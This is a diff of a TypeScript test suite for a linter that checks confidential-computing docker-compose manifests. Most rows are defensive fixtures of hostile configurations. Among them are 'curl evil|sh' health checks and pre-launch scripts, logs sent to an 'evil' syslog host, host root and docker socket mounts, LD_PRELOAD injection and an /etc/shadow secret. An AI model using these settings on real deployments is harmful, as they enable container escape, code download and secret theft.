@@ -1,95 +1,618 @@
-/** The linter finds what an operator could hide in a manifest. */
+/** Every manifest that would hand something to the host is rejected, with the place; the venue's own passes. */
 import { describe, expect, test } from 'bun:test'
+import { checkManifest } from '../../../client/verify/checks/manifest'
+import type { VerificationCase } from '../../../client/verify/checks/verification_case'
 import { lintManifest } from '../../../client/verify/manifest/lint_manifest'
 import { parsePlainYaml, UnjudgedYaml } from '../../../client/verify/manifest/plain_yaml'
+import { Refused } from '../../../client/verify/transcript'
+import { utf8 } from '../../../protocol/bytes'
+import { sha256 } from '../../../protocol/sha256'
+import { SECRET_NAMES } from '../../../protocol/tdx/venue_manifest'
+import { fillIn, judgeManifest } from '../../../tools/manifest/make_manifest'
+import { DIGEST, FILLED_COMPOSE, manifestOf } from '../../kit/verify/filled_manifest'
 
-const DIGEST = `@sha256:${'ab'.repeat(32)}`
-const COMPOSE = `
-# The venue.
-services:
-  venue:
-    image: registry.example/tacit${DIGEST} # pinned
-    restart: unless-stopped
-    command: ["bun", "server/main.ts"]
-    ports:
-      - "443:443"
-    volumes:
-      - /var/run/dstack.sock:/var/run/dstack.sock
-      - data:/data
-    environment:
-      TACIT_LISTEN: '0.0.0.0:443'
-      OPERATOR_SECRET: \${OPERATOR_SECRET}
-volumes:
-  data:
-`
-const NAMES = ['OPERATOR_SECRET']
-const manifest = (change: object = {}, compose = COMPOSE): string =>
-  JSON.stringify({
-    manifest_version: 2,
-    name: 'tacit',
-    runner: 'docker-compose',
-    docker_compose_file: compose,
-    public_logs: false,
-    allowed_envs: NAMES,
-    ...change,
-  })
-const lint = (text: string) => lintManifest(text, NAMES)
-const lintCompose = (from: string, to: string) => {
-  expect(COMPOSE).toContain(from)
-  return lint(manifest({}, COMPOSE.replace(from, to)))
+const lint = (text: string) => lintManifest(text, SECRET_NAMES)
+
+/** Replaces one part of the compose file, which must be there. */
+function edited(from: string | RegExp, to: string): string {
+  const compose = FILLED_COMPOSE.replace(from, () => to)
+  expect(compose).not.toBe(FILLED_COMPOSE)
+  return compose
+}
+/** Adds lines to the service. */
+const service = (...lines: string[]) =>
+  edited('    restart:', `${lines.map((line) => `    ${line}\n`).join('')}    restart:`)
+const top = (text: string) => `${text}\n${FILLED_COMPOSE}`
+const setting = (line: string) =>
+  edited('      TACIT_ENCLAVE: dstack\n', `      TACIT_ENCLAVE: dstack\n      ${line}\n`)
+const another = (...lines: string[]) =>
+  edited(
+    '\nvolumes:',
+    `\n  helper:\n    image: evil/x@${DIGEST}\n${lines.map((line) => `    ${line}\n`).join('')}volumes:`,
+  )
+const key = (name: string) => `compose file: services.venue.${name}: not an allowed key`
+const ENVIRONMENT = 'compose file: services.venue.environment'
+
+type Row = [attack: string, compose: string, place: string]
+/** The compose files that a former block list passed. */
+const FOUND: Row[] = [
+  ['an entrypoint of its own', service("entrypoint: ['/usr/local/bin/bun', '-e']"), key('entrypoint')],
+  ['a command', service('command: fetch("https://evil")'), key('command')],
+  ['the root of the host', edited('- ledger:/data', '- /:/host'), 'compose file: services.venue.volumes[1]'],
+  ["docker's socket", edited('- ledger:/data', '- /var/run/docker.sock:/var/run/docker.sock'), 'volumes[1]'],
+  [
+    'a second service on dstack.sock',
+    another('volumes:', '  - /var/run/dstack.sock:/var/run/dstack.sock'),
+    'services.helper',
+  ],
+  ["the host's processes", service('pid: host'), key('pid')],
+  ["the host's IPC", service('ipc: host'), key('ipc')],
+  ["the host's users", service('userns_mode: host'), key('userns_mode')],
+  ["the host's cgroups", service('cgroup: host'), key('cgroup')],
+  ["the host's UTS", service('uts: host'), key('uts')],
+  ['capabilities', service("cap_add: ['ALL']"), key('cap_add')],
+  ['devices', service('devices:', '  - /dev/mem'), key('devices')],
+  ['device rules', service('device_cgroup_rules:', '  - a *:* rwm'), key('device_cgroup_rules')],
+  ['labels of a file', service('label_file: scratch'), key('label_file')],
+  ['volumes of another container', service('volumes_from:', '  - container:other'), key('volumes_from')],
+  ['a hook after the start', service('post_start:', '  - command'), key('post_start')],
+  [
+    'logs sent to a stranger',
+    service('logging:', '  driver: syslog', '  options:', '    syslog-address: tcp://evil:514'),
+    key('logging'),
+  ],
+  [
+    'no confinement',
+    edited("['no-new-privileges:true']", "['apparmor:unconfined', 'seccomp:unconfined']"),
+    'security_opt',
+  ],
+  [
+    'a simulated enclave',
+    edited('TACIT_ENCLAVE: dstack', 'TACIT_ENCLAVE: development'),
+    `${ENVIRONMENT}.TACIT_ENCLAVE: must be "dstack"`,
+  ],
+  [
+    'a named volume that binds the host',
+    edited(
+      '  ledger:\n',
+      '  ledger:\n    driver_opts:\n      type: none\n      o: bind\n      device: /\n',
+    ).replace(/$/, ''),
+    'compose file: volumes.ledger: must be empty',
+  ],
+]
+
+/** Further attacks on the compose file. */
+const COMPOSE: Row[] = [
+  [
+    'an image by tag',
+    fillIn(FILLED_COMPOSE, ['image=registry.example/tacit:latest']),
+    'services.venue.image',
+  ],
+  ['an image by cut digest', fillIn(FILLED_COMPOSE, ['image=tacit@sha256:abcd']), 'services.venue.image'],
+  ['an image from the environment', fillIn(FILLED_COMPOSE, ['image=$IMAGE']), 'services.venue.image'],
+  ['no image', edited(/ {4}image: .*\n/, ''), 'services.venue.image: missing'],
+  ['a build in place', service("build: '.'"), key('build')],
+  ['a pull of another image', service('pull_policy: build'), key('pull_policy')],
+  ['another platform', service('platform: linux/arm64'), key('platform')],
+  ['another runtime', service('runtime: runc-debug'), key('runtime')],
+  ['an inherited service', service('extends:', '  file: other.yaml', '  service: venue'), key('extends')],
+  ['settings of a file', service("env_file: '.env'"), key('env_file')],
+  ['a privileged container', service('privileged: true'), key('privileged')],
+  [
+    'a writable root',
+    edited('read_only: true', 'read_only: false'),
+    'services.venue.read_only: must be true',
+  ],
+  ['a root by a text', edited('read_only: true', "read_only: 'true'"), 'services.venue.read_only'],
+  ['the user root', edited("user: '10001:10001'", "user: '0:0'"), 'services.venue.user'],
+  ['a user by name', edited("user: '10001:10001'", 'user: root'), 'services.venue.user'],
+  [
+    'a user that YAML 1.1 reads in base 60',
+    edited("user: '10001:10001'", 'user: 10001:10001'),
+    'must be quoted',
+  ],
+  ['capabilities kept', edited("cap_drop: ['ALL']", "cap_drop: ['CHOWN']"), 'services.venue.cap_drop'],
+  ['no dropped capabilities', edited(/ {4}cap_drop: .*\n/, ''), 'services.venue.cap_drop: missing'],
+  ['new privileges', edited(/ {4}security_opt: .*\n/, ''), 'services.venue.security_opt: missing'],
+  [
+    'a second security option',
+    edited("['no-new-privileges:true']", "['no-new-privileges:true', 'systempaths=unconfined']"),
+    'security_opt',
+  ],
+  [
+    'a temporary folder over the code',
+    edited("tmpfs: ['/tmp']", "tmpfs: ['/tmp', '/app']"),
+    'services.venue.tmpfs',
+  ],
+  [
+    'executable temporary files',
+    edited("tmpfs: ['/tmp']", "tmpfs: ['/tmp:exec,suid']"),
+    'services.venue.tmpfs',
+  ],
+  [
+    'another kernel setting',
+    edited(
+      "      net.ipv4.tcp_migrate_req: '1'",
+      "      net.ipv4.tcp_migrate_req: '1'\n      net.ipv4.ip_forward: '1'",
+    ),
+    'sysctls.net.ipv4.ip_forward',
+  ],
+  ["the host's network", service('network_mode: host'), key('network_mode')],
+  ['a network of its own', service('networks:', '  - evil'), key('networks')],
+  ['a name server', service('dns:', '  - 203.0.113.1'), 'must be quoted'],
+  ['a quoted name server', service("dns: '203.0.113.1'"), key('dns')],
+  ['names that lead elsewhere', service("extra_hosts: ['one.example:203.0.113.1']"), key('extra_hosts')],
+  ['links', service("links: ['other:one.example']"), key('links')],
+  ['further groups', service("group_add: ['docker']"), key('group_add')],
+  ['a service behind a profile', service("profiles: ['debug']"), key('profiles')],
+  ['replicas', service('deploy:', '  replicas: 2'), key('deploy')],
+  ['a scale', service('scale: 2'), key('scale')],
+  ['a dependency', service("depends_on: ['helper']"), key('depends_on')],
+  ['files of configs', service("configs: ['x']"), key('configs')],
+  ['files of secrets', service("secrets: ['x']"), key('secrets')],
+  ['labels that steer a proxy', service('labels:', '  traefik.enable: on-demand'), key('labels')],
+  ['an open standard input', service('stdin_open: true'), key('stdin_open')],
+  ['an init of the host', service('init: true'), key('init')],
+  ['a shared memory size', service("shm_size: '8gb'"), key('shm_size')],
+  ['no memory killer', service('oom_kill_disable: true'), key('oom_kill_disable')],
+  ['files changed while running', service('develop:', '  watch: x'), key('develop')],
+  ['a provider program', service('provider:', '  type: evil'), key('provider')],
+  ['credentials of the host', service('credential_spec: x'), key('credential_spec')],
+  ['a working folder', service('working_dir: /data'), key('working_dir')],
+  ['another signal to stop', service('stop_signal: SIGKILL'), key('stop_signal')],
+  ['an extension key in the service', service('x-hidden: evil'), key('x-hidden')],
+  [
+    'an extension key at the top',
+    top('x-hidden:\n  pid: host'),
+    'compose file: x-hidden: not an allowed key',
+  ],
+  ['a version', top("version: '2'"), 'compose file: version: not an allowed key'],
+  ['a project name', top('name: other'), 'compose file: name: not an allowed key'],
+  ['another file', top("include: ['other.yaml']"), 'compose file: include: not an allowed key'],
+  ['networks', top('networks:\n  default:\n    driver: host'), 'compose file: networks: not an allowed key'],
+  [
+    'secrets of the host',
+    top('secrets:\n  key:\n    file: /etc/shadow'),
+    'compose file: secrets: not an allowed key',
+  ],
+  ['a second volume', `${FILLED_COMPOSE}  other:\n`, 'compose file: volumes.other: not an allowed key'],
+  [
+    'a volume from outside',
+    edited('  ledger:\n', '  ledger:\n    external: true\n'),
+    'compose file: volumes.ledger: must be empty',
+  ],
+  [
+    'a volume under another name',
+    edited('  ledger:\n', '  ledger:\n    name: other\n'),
+    'compose file: volumes.ledger: must be empty',
+  ],
+  [
+    'a third mount',
+    edited('      - ledger:/data\n', '      - ledger:/data\n      - ledger:/app\n'),
+    'services.venue.volumes: must be a list of exactly',
+  ],
+  ['the ledger over the code', edited('- ledger:/data', '- ledger:/app'), 'services.venue.volumes[1]'],
+  [
+    'another agent socket',
+    edited('- /var/run/dstack.sock:/var/run/dstack.sock', '- /data/x.sock:/var/run/dstack.sock'),
+    'services.venue.volumes[0]',
+  ],
+  [
+    'a mount in the long form',
+    edited('      - ledger:/data\n', '      - type: bind\n        source: /\n        target: /data\n'),
+    'a mapping on one line',
+  ],
+  [
+    'a third port',
+    edited("      - '8444:8444'\n", "      - '8444:8444'\n      - '22:22'\n"),
+    'services.venue.ports: must be a list of exactly',
+  ],
+  ['a shell port', edited("'8444:8444'", "'2222:22'"), 'services.venue.ports[1]'],
+  ['one port for both', edited("'8444:8444'", "'443:8444'"), 'services.venue.ports[1]'],
+  ['the operator on the port of clients', edited("'443:8443'", "'443:8444'"), 'services.venue.ports[0]'],
+  ['a port in base 60', edited("'8444:8444'", '8444:8444'), 'must be quoted'],
+  [
+    'a health check that is a shell',
+    edited("['CMD', 'bun', '/app/server/check_health.ts']", "['CMD-SHELL', 'curl evil|sh']"),
+    'healthcheck.test',
+  ],
+  [
+    'a health check of another file',
+    edited("'/app/server/check_health.ts'", "'/data/x.ts'"),
+    'healthcheck.test[2]',
+  ],
+  [
+    'a service under another name',
+    edited('  venue:\n', '  other:\n'),
+    'compose file: services.other: not an allowed key',
+  ],
+  ['no service', 'services:\nvolumes:\n  ledger:\n', 'compose file: services: must be a mapping'],
+  ['an empty file', '', 'compose file: line 1'],
+]
+
+const ENVIRONMENTS: Row[] = [
+  ['a preloaded library', setting('LD_PRELOAD: /data/x.so'), `${ENVIRONMENT}.LD_PRELOAD: not an allowed key`],
+  ['options of Bun', setting("BUN_OPTIONS: '--preload=/data/x.ts'"), `${ENVIRONMENT}.BUN_OPTIONS`],
+  ['options of Node', setting("NODE_OPTIONS: '--require=/data/x.js'"), `${ENVIRONMENT}.NODE_OPTIONS`],
+  [
+    'unverified TLS',
+    setting("NODE_TLS_REJECT_UNAUTHORIZED: '0'"),
+    `${ENVIRONMENT}.NODE_TLS_REJECT_UNAUTHORIZED`,
+  ],
+  ['another authority', setting('NODE_EXTRA_CA_CERTS: /data/ca.pem'), `${ENVIRONMENT}.NODE_EXTRA_CA_CERTS`],
+  ['authorities of a file', setting('SSL_CERT_FILE: /data/ca.pem'), `${ENVIRONMENT}.SSL_CERT_FILE`],
+  ['a proxy', setting("HTTPS_PROXY: 'http://evil'"), `${ENVIRONMENT}.HTTPS_PROXY`],
+  ['another home', setting('HOME: /data'), `${ENVIRONMENT}.HOME`],
+  ['another path', setting('PATH: /data'), `${ENVIRONMENT}.PATH`],
+  ['a misspelt setting', setting("TACIT_SWAGER: 'on'"), `${ENVIRONMENT}.TACIT_SWAGER`],
+  ['a missing setting', edited(/ +TACIT_SWAGGER:.*\n/, ''), `${ENVIRONMENT}.TACIT_SWAGGER: missing`],
+  [
+    'a name without a value',
+    edited(/TACIT_SWAGGER: .*/, 'TACIT_SWAGGER:'),
+    `${ENVIRONMENT}.TACIT_SWAGGER: must be`,
+  ],
+  [
+    'a key from outside',
+    edited(/TACIT_OPERATOR_KEY: .*/, `TACIT_OPERATOR_KEY: \${TACIT_OPERATOR_KEY}`),
+    `${ENVIRONMENT}.TACIT_OPERATOR_KEY: must be a literal`,
+  ],
+  [
+    'a default value',
+    edited(/TACIT_OPERATOR_KEY: .*/, `TACIT_OPERATOR_KEY: '\${K:-x}'`),
+    `${ENVIRONMENT}.TACIT_OPERATOR_KEY`,
+  ],
+  [
+    'a bare reference',
+    edited(/TACIT_OPERATOR_KEY: .*/, 'TACIT_OPERATOR_KEY: $K'),
+    `${ENVIRONMENT}.TACIT_OPERATOR_KEY`,
+  ],
+  [
+    'a doubled dollar',
+    edited(/TACIT_OPERATOR_KEY: .*/, 'TACIT_OPERATOR_KEY: $$K'),
+    `${ENVIRONMENT}.TACIT_OPERATOR_KEY`,
+  ],
+  [
+    'a secret in another setting',
+    edited(/TACIT_FEE_KEY: .*/, `TACIT_FEE_KEY: \${TACIT_FEE_ANCHOR}`),
+    `${ENVIRONMENT}.TACIT_FEE_KEY`,
+  ],
+  [
+    'a secret with a default',
+    edited(`\${TACIT_FEE_ANCHOR}`, `'\${TACIT_FEE_ANCHOR:-1}'`),
+    `${ENVIRONMENT}.TACIT_FEE_ANCHOR`,
+  ],
+  [
+    'a secret in public',
+    edited(`\${TACIT_FEE_ANCHOR}`, `'${'0'.repeat(63)}1'`),
+    `${ENVIRONMENT}.TACIT_FEE_ANCHOR`,
+  ],
+  [
+    'a number',
+    edited("TACIT_TOKEN_TTL_S: '900'", 'TACIT_TOKEN_TTL_S: 900'),
+    `${ENVIRONMENT}.TACIT_TOKEN_TTL_S`,
+  ],
+  ['a boolean', edited("TACIT_SWAGGER: 'off'", 'TACIT_SWAGGER: false'), `${ENVIRONMENT}.TACIT_SWAGGER`],
+  ['a boolean of YAML 1.1', edited("TACIT_SWAGGER: 'off'", 'TACIT_SWAGGER: off'), 'must be quoted'],
+  ['a number in base 16', edited("TACIT_TOKEN_TTL_S: '900'", 'TACIT_TOKEN_TTL_S: 0x384'), 'must be quoted'],
+  [
+    'another socket of the agent',
+    edited('TACIT_DSTACK_SOCKET: /var/run/dstack.sock', 'TACIT_DSTACK_SOCKET: /data/x.sock'),
+    `${ENVIRONMENT}.TACIT_DSTACK_SOCKET`,
+  ],
+  [
+    'data in memory',
+    edited('TACIT_DATA_DIR: /data', 'TACIT_DATA_DIR: /tmp'),
+    `${ENVIRONMENT}.TACIT_DATA_DIR`,
+  ],
+  [
+    'other listeners',
+    edited("TACIT_OPERATOR_LISTEN: '0.0.0.0:8444'", "TACIT_OPERATOR_LISTEN: '0.0.0.0:8443'"),
+    `${ENVIRONMENT}.TACIT_OPERATOR_LISTEN`,
+  ],
+  [
+    'an embedded chain',
+    fillIn(FILLED_COMPOSE, ['SOLANA_RPC_URL=embedded']),
+    `${ENVIRONMENT}.SOLANA_RPC_URL: must be https`,
+  ],
+  [
+    'a chain in the clear',
+    edited('https://two', 'http://two'),
+    `${ENVIRONMENT}.SOLANA_RPC_URL: must be https`,
+  ],
+  ['one provider', edited(',https://two.example/path', ''), `${ENVIRONMENT}.SOLANA_RPC_URL`],
+  [
+    'one provider twice',
+    edited('https://two', 'https://x@one'),
+    `${ENVIRONMENT}.SOLANA_RPC_URL: two providers`,
+  ],
+  [
+    'an environment as a list',
+    edited(/ {4}environment:[\s\S]*?\nvolumes/, "    environment:\n      - 'LD_PRELOAD=/data/x.so'\nvolumes"),
+    `${ENVIRONMENT}: must be a mapping`,
+  ],
+]
+
+const WRITINGS: Row[] = [
+  ['an anchor', top('x: &a y'), 'line 1'],
+  ['an alias', edited('restart: unless-stopped', 'restart: *a'), 'must be quoted'],
+  ['a merge', service('<<: *base'), 'expected a plain key'],
+  ['a tag', edited('read_only: true', 'read_only: !!bool true'), 'must be quoted'],
+  [
+    'a text over several lines',
+    edited('restart: unless-stopped', 'restart: |\n      always'),
+    'must be quoted',
+  ],
+  [
+    'a folded text',
+    edited('restart: unless-stopped', 'restart: unless-stopped\n      always'),
+    'unexpected indentation',
+  ],
+  [
+    'a flow mapping',
+    edited('      net.ipv4.tcp_migrate_req', '      x: {y: z}\n      net.ipv4.tcp_migrate_req'),
+    'must be quoted',
+  ],
+  ['a repeated key', service('restart: unless-stopped'), 'a key is repeated'],
+  ['a quoted key', service('"privileged": true'), 'expected a plain key'],
+  ['an explicit key', service('? privileged', ': true'), 'expected a plain key'],
+  ['a second document', `${FILLED_COMPOSE}---\nservices:\n`, 'a document mark'],
+  ['a directive', top('%YAML 1.1'), 'a document mark'],
+  ['tabs', edited('    restart: unless', '    restart:\tunless'), 'not printable ASCII'],
+  ['line ends of Windows', FILLED_COMPOSE.replaceAll('\n', '\r\n'), 'not printable ASCII'],
+  [
+    'a line end inside a comment',
+    edited('# Clients.', '# \u2028    privileged: true'),
+    'not printable ASCII',
+  ],
+  [
+    'a carriage return inside a comment',
+    edited('# Clients.', '#\r    privileged: true'),
+    'not printable ASCII',
+  ],
+  [
+    'a letter of another alphabet',
+    edited('TACIT_ENCLAVE: dstack', 'TACIT_ENCL\u0410VE: dstack'),
+    'not printable ASCII',
+  ],
+  [
+    'a text that turns the direction',
+    edited('restart: unless', 'restart: \u202eunless'),
+    'not printable ASCII',
+  ],
+  ['a byte order mark', `\ufeff${FILLED_COMPOSE}`, 'not printable ASCII'],
+  [
+    'an escape in quotes',
+    edited("user: '10001:10001'", String.raw`user: "10001\x3a10001"`),
+    'quotes within quotes',
+  ],
+]
+
+const OWN = manifestOf(FILLED_COMPOSE)
+const manifest = (change: Record<string, unknown>) => manifestOf(FILLED_COMPOSE, change)
+const without = (name: string) => {
+  const { [name]: _left_out, ...rest } = JSON.parse(OWN)
+  return JSON.stringify(rest)
+}
+const FORM = 'must be JSON with sorted keys'
+const MANIFESTS: Row[] = [
+  [
+    'a script before launch',
+    manifest({ pre_launch_script: 'curl evil|sh' }),
+    'pre_launch_script: not an allowed key',
+  ],
+  ['an empty script', manifest({ pre_launch_script: '' }), 'pre_launch_script: not an allowed key'],
+  ['a script at init', manifest({ init_script: ['true'] }), 'init_script: not an allowed key'],
+  ['a script as runner', manifest({ runner: 'bash', bash_script: 'x' }), 'runner: must be "docker-compose"'],
+  [
+    'another runner of containers',
+    manifest({ runner: 'nerdctl-compose', snapshotter: 'stargz' }),
+    'snapshotter: not',
+  ],
+  ['a script in another case', manifest({ pre_launch_Script: 'x' }), 'pre_launch_Script: not an allowed key'],
+  [
+    'a script under a name of other letters',
+    manifest({ 'pre_launch_scr\u0456pt': 'x' }),
+    String.raw`"pre_launch_scr\u0456pt": not an allowed key`,
+  ],
+  ['a registry', manifest({ docker_config: { registry: 'evil' } }), 'docker_config: not an allowed key'],
+  ['features', manifest({ features: ['kms'] }), 'features: not an allowed key'],
+  ['swap', manifest({ swap_size: '8G' }), 'swap_size: not an allowed key'],
+  [
+    'volumes beside the image',
+    manifest({ verity_volumes: [{ source: 'x', target: '/' }] }),
+    'verity_volumes: not',
+  ],
+  [
+    'the former name of the gateway',
+    manifest({ tproxy_enabled: true }),
+    'tproxy_enabled: not an allowed key',
+  ],
+  ['values of the host', manifest({ user_config: 'x' }), 'user_config: not an allowed key'],
+  ['a prototype', OWN.replace('{"allowed', '{"__proto__":{},"allowed'), '__proto__: not an allowed key'],
+  ['public logs', manifest({ public_logs: true }), 'public_logs: must be false'],
+  ['logs left to a default', without('public_logs'), 'public_logs: missing'],
+  ['public system facts', manifest({ public_sysinfo: true }), 'public_sysinfo: must be false'],
+  ['a hidden manifest', manifest({ public_tcbinfo: false }), 'public_tcbinfo: must be true'],
+  [
+    'new keys at every start',
+    manifest({ key_provider: 'none', kms_enabled: false }),
+    'key_provider: must be "kms"',
+  ],
+  [
+    'keys of the host',
+    manifest({ local_key_provider_enabled: true }),
+    'local_key_provider_enabled: must be false',
+  ],
+  ['keys left to a default', without('key_provider'), 'key_provider: missing'],
+  ['no instance id', manifest({ no_instance_id: true }), 'no_instance_id: must be false'],
+  [
+    'a malformed KMS root',
+    manifest({ key_provider_id: 'zz' }),
+    'key_provider_id: must be the DER public key',
+  ],
+  ['a file system without checksums', manifest({ storage_fs: 'ext4' }), 'storage_fs: must be "zfs"'],
+  ['open ports', manifest({ port_policy: { ports: [], restrict_mode: false } }), 'port_policy.restrict_mode'],
+  [
+    "the agent's dashboard",
+    manifest({
+      port_policy: {
+        ports: [
+          { port: 8090, pp: false },
+          { port: 8444, pp: false },
+        ],
+        restrict_mode: true,
+      },
+    }),
+    'port_policy.ports[0].port',
+  ],
+  [
+    'the proxy protocol',
+    manifest({
+      port_policy: {
+        ports: [
+          { port: 443, pp: true },
+          { port: 8444, pp: false },
+        ],
+        restrict_mode: true,
+      },
+    }),
+    'port_policy.ports[0].pp',
+  ],
+  ['events of version 2', manifest({ event_log_version: 2 }), 'event_log_version: must be 1'],
+  [
+    'a launch token',
+    manifest({ requirements: { health_check: true, launch_token_hash: 'x' } }),
+    'requirements.launch_token_hash',
+  ],
+  [
+    'a file that says it is healthy',
+    manifest({ requirements: { health_check: true, health_status_file: '/x' } }),
+    'requirements.health_status_file',
+  ],
+  [
+    'requirements that OS 0.5 ignores',
+    manifest({ manifest_version: 2 }),
+    'requirements: go with manifest_version "3"',
+  ],
+  ['no requirements', without('requirements'), 'requirements: go with manifest_version "3"'],
+  ['version 3 as a number', manifest({ manifest_version: 3 }), 'manifest_version: must be 2 or "3"'],
+  ['a name with other letters', manifest({ name: 't\u0430cit' }), 'name: must be lowercase'],
+  ['a name with a line end', manifest({ name: 'tacit\n' }), 'name: must be lowercase'],
+  [
+    'names of compose itself',
+    manifest({ allowed_envs: ['COMPOSE_FILE', 'TACIT_FEE_ANCHOR'] }),
+    'allowed_envs[0]: must be',
+  ],
+  ['a loader variable', manifest({ allowed_envs: ['LD_PRELOAD'] }), 'allowed_envs[0]: must be'],
+  ['names that are no list', manifest({ allowed_envs: 'TACIT_FEE_ANCHOR' }), 'allowed_envs: must be a list'],
+  [
+    'a name that nothing takes',
+    manifest({ allowed_envs: ['TACIT_ACME_DNS_SECRET', 'TACIT_FEE_ANCHOR'] }),
+    'allowed_envs: must be ["TACIT_FEE_ANCHOR"]',
+  ],
+  [
+    'a name twice',
+    manifest({ allowed_envs: ['TACIT_FEE_ANCHOR', 'TACIT_FEE_ANCHOR'] }),
+    'allowed_envs: must be ["TACIT_FEE_ANCHOR"]',
+  ],
+  [
+    'a name in a list in a list',
+    manifest({ allowed_envs: [['TACIT_FEE_ANCHOR']] }),
+    'allowed_envs[0]: must be',
+  ],
+  ['no compose file', without('docker_compose_file'), 'docker_compose_file: missing'],
+  [
+    'a compose file that is no text',
+    manifest({ docker_compose_file: {} }),
+    'docker_compose_file: must be a text',
+  ],
+  ['a key twice, the first for dstack', OWN.replace('"runner":', '"runner":"bash","runner":'), FORM],
+  [
+    'a key twice, written in another way',
+    OWN.replace('"public_logs":', String.raw`"public_l\u006fgs":true,"public_logs":`),
+    FORM,
+  ],
+  ['a key twice, inside', OWN.replace('"restrict_mode":', '"restrict_mode":false,"restrict_mode":'), FORM],
+  [
+    'keys out of order',
+    OWN.replace('{"allowed_envs":["TACIT_FEE_ANCHOR"],', '{').replace(
+      /}$/,
+      ',"allowed_envs":["TACIT_FEE_ANCHOR"]}',
+    ),
+    FORM,
+  ],
+  ['an escaped character', OWN.replace('"docker-compose"', String.raw`"docker\u002dcompose"`), FORM],
+  ['a number written in another way', OWN.replace('"port":443', '"port":443.0'), FORM],
+  ['white space', `${OWN}\n`, FORM],
+  ['an indented text', JSON.stringify(JSON.parse(OWN), null, 4), FORM],
+  ['a byte order mark', `\ufeff${OWN}`, 'it is not JSON'],
+  ['a cut text', OWN.slice(0, -1), 'it is not JSON'],
+  ['no text', '', 'it is not JSON'],
+  ['a list', '[]', 'must be a mapping'],
+  ['nothing', 'null', 'must be a mapping'],
+  ['a text that is nested too deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, 'must be a mapping'],
+  [
+    'a text that dstack would not take',
+    manifest({ name: 'a'.repeat(256 * 1024) }),
+    'it is longer than 256 KiB',
+  ],
+]
+
+/** Gives a manifest to check 3.2, as if it had been measured. */
+async function faultsOfClient(text: string): Promise<string> {
+  const compose_hash = sha256(utf8(text))
+  const policy = { environment_names: [...SECRET_NAMES] }
+  const judged = { bundle: { app_compose: text }, policy, established: { claims: { compose_hash } } }
+  try {
+    await checkManifest(judged as unknown as VerificationCase)
+    return ''
+  } catch (error) {
+    if (error instanceof Refused) return error.message
+    throw error
+  }
 }
 
-test('a clean manifest has no fault', () => {
-  expect(lint(manifest())).toEqual([])
-})
-
-describe('manifest', () => {
-  const faults: Record<string, object> = {
-    'public logs': { public_logs: true },
-    'logs left to a default': { public_logs: undefined },
-    'a script before launch': { pre_launch_script: 'sshd' },
-    'a script at init': { init_script: 'true' },
-    'an unlisted environment name': { allowed_envs: ['OPERATOR_SECRET', 'LD_PRELOAD'] },
-    'environment names that are no list': { allowed_envs: 'OPERATOR_SECRET' },
-    'another runner': { runner: 'bash' },
-    'no compose file': { docker_compose_file: undefined },
-  }
-  for (const [name, change] of Object.entries(faults))
-    test(`${name} is a fault`, () => {
-      expect(lint(manifest(change)).length).toBe(1)
-    })
-  test('text that is no manifest is a fault', () => {
-    for (const text of ['', '[]', 'null', '1', '{']) expect(lint(text).length).toBe(1)
+describe("the venue's own manifest", () => {
+  test('passes, with and without its optional members', async () => {
+    const dns = edited("TACIT_ACME_DNS_SECRET: ''", `TACIT_ACME_DNS_SECRET: \${TACIT_ACME_DNS_SECRET}`)
+    const texts = [
+      OWN,
+      manifest({ key_provider_id: 'ab'.repeat(91) }),
+      manifest({ event_log_version: 1 }),
+      manifest({ secure_time: true }),
+      without('requirements').replace('"manifest_version":"3"', '"manifest_version":2'),
+      manifestOf(dns, { allowed_envs: ['TACIT_ACME_DNS_SECRET', 'TACIT_FEE_ANCHOR'] }),
+      manifestOf(edited(/ {4}healthcheck:[\s\S]*?(?= {4}environment:)/, '')),
+    ]
+    for (const text of texts) expect(await faultsOfClient(text)).toBe('')
   })
-})
-
-describe('compose file', () => {
-  const image = `registry.example/tacit${DIGEST}`
-  const faults: [name: string, from: string, to: string][] = [
-    ['an image by tag', image, 'registry.example/tacit:latest'],
-    ['an image by cut digest', image, 'registry.example/tacit@sha256:abcd'],
-    ['an image from the environment', image, '$IMAGE'],
-    ['a build', '    restart: unless-stopped', '    build: .'],
-    ['a privileged container', '    restart: unless-stopped', '    privileged: true'],
-    ['another file included', 'volumes:\n  data:', 'include:\n  - other.yaml'],
-    ['a shell port', '"443:443"', '"2222:22"'],
-    ['a remote shell', '["bun", "server/main.ts"]', '["/usr/sbin/sshd", "-D"]'],
-    ['an environment name passed through', "TACIT_LISTEN: '0.0.0.0:443'", 'LD_PRELOAD:'],
-    ['an environment name interpolated', "'0.0.0.0:443'", `\${LISTEN:-x}`],
-    ['no services', 'services:', 'others:'],
-    ['a service without anything', '  venue:\n', '  empty:\n  venue:\n'],
-  ]
-  for (const [name, from, to] of faults)
-    test(`${name} is a fault`, () => {
-      expect(lintCompose(from, to).length).toBeGreaterThan(0)
-    })
-  test('environment as a list is judged too', () => {
-    const compose = COMPOSE.replace(
-      / {4}environment:[\s\S]*?volumes:\n {2}data/,
-      '    environment:\n      - A=1\n      - B\nvolumes:\n  data',
+  test('takes no secret that the policy of the client does not name', () => {
+    expect(lintManifest(OWN, [])).toEqual([
+      `${ENVIRONMENT}.TACIT_FEE_ANCHOR: the encrypted environment may not deliver it`,
+    ])
+    expect(lintManifest(manifest({ allowed_envs: ['LD_PRELOAD'] }), ['LD_PRELOAD'])[0]).toStartWith(
+      'allowed_envs[0]',
     )
-    expect(lint(manifest({}, compose))).toEqual(['service venue takes B from the environment'])
   })
+})
+
+const rows: Row[] = [
+  ...[...FOUND, ...COMPOSE, ...ENVIRONMENTS, ...WRITINGS].map(
+    ([attack, compose, place]): Row => [attack, manifestOf(compose), place],
+  ),
+  ...MANIFESTS,
+]
+test.each(rows)('%s is rejected, by client and operator alike', async (_attack, text, place) => {
+  const faults = lint(text)
+  expect(faults.join('\n')).toContain(place)
+  expect(faults.join('')).toMatch(/^[\x20-\x7e]+$/)
+  expect(await faultsOfClient(text)).toBe(faults.join('; '))
+  expect(judgeManifest(text)).toEqual(faults)
+})
+
+test('the number of faults is bounded', () => {
+  const keys = Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`key${at}`, at]))
+  expect(lint(manifest(keys))).toHaveLength(101)
 })
 
 test('YAML that could be read in two ways is not judged', () => {
@@ -108,11 +631,19 @@ test('YAML that could be read in two ways is not judged', () => {
     'a: b: c',
     'a: "b\\x41"',
     'a: "b',
+    "a: 'b''c'",
+    'a: "b"c',
+    'a: "b"#c',
     '- a',
     'a:\n  - b: c',
     'a:\n  - - b',
+    'a:\n  -',
     'a: [b,\n  c]',
     'a: [{b: c}]',
